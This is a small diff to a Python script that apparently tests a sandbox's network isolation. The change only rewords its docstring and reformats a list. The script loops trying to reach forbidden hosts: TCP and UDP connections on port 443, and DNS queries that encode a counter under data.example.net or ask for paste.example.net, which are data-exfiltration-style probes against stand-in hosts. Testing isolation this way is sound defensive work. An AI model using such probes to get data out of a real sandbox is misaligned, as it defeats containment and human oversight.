@@ -1,4 +1,4 @@
-"""Runs inside: tries to get out by every way there is, again and again, until /src/stop is there; at most two minutes."""
+"""Runs inside: tries every way out again and again until /src/stop exists, at most for two minutes."""
 
 import os
 import socket
@@ -37,7 +37,10 @@ while time.monotonic() < end and not os.path.exists("/src/stop"):
     number += 1
     attempts = [lambda: datagram("192.0.2.53", 53, question(f"n{number}.data.example.net")), allowed]
     for target in FORBIDDEN:
-        attempts += [lambda: connect(target, 443), lambda: datagram(target, 443, b"out"), lambda: datagram(target, 53, question("paste.example.net"))]
+        attempts += [
+            lambda: connect(target, 443), lambda: datagram(target, 443, b"out"),
+            lambda: datagram(target, 53, question("paste.example.net")),
+        ]
         for attempt in attempts:
             try:
                 attempt()
